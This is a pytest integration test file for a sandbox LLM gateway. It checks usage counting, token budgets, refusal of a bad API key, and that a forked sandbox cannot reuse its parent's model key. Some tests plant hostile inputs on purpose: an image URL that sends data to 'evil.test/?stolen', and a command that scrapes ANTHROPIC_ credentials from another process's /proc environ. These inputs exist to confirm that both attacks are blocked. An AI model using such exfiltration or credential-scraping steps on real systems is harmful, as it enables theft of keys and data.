"""What the LLM gateway counts and refuses reaches the task: usage, budgets, a key that the provider does not take."""

from __future__ import annotations

import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest
from tests.integration.control_host import assert_whole, controlled, finished, run_task, until
from tests.node_host import NodeHost

from hutch.model import CreateSandbox, ExecRequest, Fork, OrgBudget, TaskState
from hutch.store import DEFAULT_ORG

pytestmark = [pytest.mark.root, pytest.mark.timeout(240)]

GOOD, BAD = "sk-ant-good", "sk-ant-bad"
CALL = """python3 - <<'END'
import os, sys, urllib.request, urllib.error
body = b'{"model": "claude-sonnet-4-5", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}]}'
for _ in range(TIMES):
    request = urllib.request.Request(os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages", body, {
        "x-api-key": os.environ["ANTHROPIC_API_KEY"], "content-type": "application/json",
        "anthropic-version": "2023-06-01"})
    try:
        print(urllib.request.urlopen(request).status, flush=True)
    except urllib.error.HTTPError as error:
        print(error.code, flush=True)
        sys.exit(9)
END
EXIT"""


class _Provider(BaseHTTPRequestHandler):
    """Anthropic's answer to one call: 40 tokens in, 10 out."""

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        good = self.headers.get("x-api-key") == GOOD
        answer: dict[str, Any] = {
            "id": "m", "type": "message", "role": "assistant", "model": "claude-sonnet-4-5", "stop_reason": "end_turn",
            "content": [{"type": "text", "text": "hi"}], "usage": {"input_tokens": 40, "output_tokens": 10},
        }  # fmt: skip
        if not good:
            answer = {"type": "error", "error": {"type": "authentication_error", "message": "invalid x-api-key"}}
        body = json.dumps(answer).encode()
        self.send_response(200 if good else 401)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def llm_node(standard_template: str) -> Iterator[NodeHost]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Provider)
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    host = NodeHost(anthropic_base_url=f"http://127.0.0.1:{server.server_address[1]}")
    try:
        host.start()
        yield host
    finally:
        host.close()
        server.shutdown()
        server.server_close()
        thread.join()


def calls(times: int, after: str = "exit $?") -> str:
    return CALL.replace("TIMES", str(times)).replace("EXIT", after)


async def test_usage_is_counted_outside(llm_node: NodeHost) -> None:
    async with controlled(llm_node) as control:
        fetched = '[{"type": "image", "source": {"type": "url", "url": "https://evil.test/?stolen"}}]'
        reaches = calls(1, "true").replace('"hi"', fetched)
        task, events = await run_task(control, f"{reaches}\n{calls(3)}", llm_key=GOOD)
        box = await control.get(task.sandbox_id)
    assert_whole(events)
    assert task.state is TaskState.SUCCEEDED
    output = " ".join(event.data["text"] for event in events if event.type == "output")
    assert output.split() == ["400", "200", "200", "200"], "it reaches nothing, and its provider reaches nothing for it"
    assert (task.usage.llm.requests, task.usage.llm.input_tokens, task.usage.llm.output_tokens) == (3, 120, 30)
    assert task.usage.llm.usd > 0
    assert box.usage.llm == task.usage.llm
    totals = [event.data["input_tokens"] for event in events if event.type == "usage"]
    assert totals == sorted(totals)
    assert totals[-1] == 120


async def test_a_resumed_task_may_call_its_model_and_a_fork_of_it_may_not(llm_node: NodeHost) -> None:
    command = "while [ ! -e go ]; do sleep 0.2; done\n" + calls(2)
    wish = {"agent": "command", "task": command, "llm_key": GOOD}
    async with controlled(llm_node) as control:
        made = await control.create(CreateSandbox.model_validate(wish))
        assert made.task is not None
        task_id = made.task.id

        async def agent_runs() -> bool:
            return (await control.tasks.get(task_id)).started_at is not None

        await until(agent_runs)
        await control.pause(made.id)
        (fork,) = await control.fork(made.id, Fork())
        environment = (
            'export $(tr "\\0" "\\n" < /proc/$(pgrep -f "while . ! -e go" | head -1)/environ | grep ^ANTHROPIC_)\n'
        )
        refused = await control.execs.run(fork.id, ExecRequest(command=environment + calls(1), timeout=60))
        assert refused.exit_code == 9 and refused.stdout.strip() in ("401", "403"), refused
        await control.execs.run(made.id, ExecRequest(command="touch go"))
        task, events = await finished(control, task_id)
        await control.delete(fork.id)
    assert_whole(events)
    assert task.state is TaskState.SUCCEEDED and task.usage.llm.requests == 2


async def test_a_budget_of_tokens_warns_and_stops_in_mid_run(llm_node: NodeHost) -> None:
    async with controlled(llm_node) as control:
        task, events = await run_task(
            control, "echo kept > out\n" + calls(1000), llm_key=GOOD, budget={"llm_tokens": 240}, outputs=["out"]
        )
    assert_whole(events)
    levels = [event.data["level"] for event in events if event.type == "budget"]
    assert levels[-1] == "exceeded"
    assert levels.count("warning") <= 1
    assert (task.state, [file.path for file in task.outputs]) == (TaskState.BUDGET_EXCEEDED, ["out"])
    assert task.usage.llm.tokens < 1000


async def test_the_budget_of_an_organisation_stops_its_tasks(llm_node: NodeHost) -> None:
    async with controlled(llm_node) as control:
        await control._journal.catch_up()  # the node has counted what other tests have used
        before = (await control.spending.of(DEFAULT_ORG)).day.tokens
        await control.spending.set(DEFAULT_ORG, OrgBudget(day_tokens=before + 240))
        try:
            task, events = await run_task(control, calls(1000), llm_key=GOOD)
        finally:
            await control.spending.set(DEFAULT_ORG, OrgBudget())
        (told,) = [event.data for event in events if event.type == "budget"]
        assert (told["part"], told["level"], told["limit"]) == ("org_day_tokens", "exceeded", before + 240)
        assert task.state is TaskState.BUDGET_EXCEEDED and task.result is not None
        assert "tokens a day of the organisation" in (task.result.detail or "")

        async def all_told() -> bool:
            return (await control.spending.of(DEFAULT_ORG)).day.tokens >= max(told["used"], before + 240)

        await until(all_told)


@pytest.mark.parametrize("after", ["exit 1", "sleep 1000"])
async def test_a_key_that_the_provider_refuses_is_no_crash_of_the_agent(llm_node: NodeHost, after: str) -> None:
    async with controlled(llm_node) as control:
        task, events = await run_task(control, calls(1, after), llm_key=BAD)
    assert_whole(events)
    assert task.result is not None
    assert (task.state, task.result.error) == (TaskState.FAILED, "llm_auth_failed")
    assert BAD not in task.model_dump_json() + "".join(event.model_dump_json() for event in events)
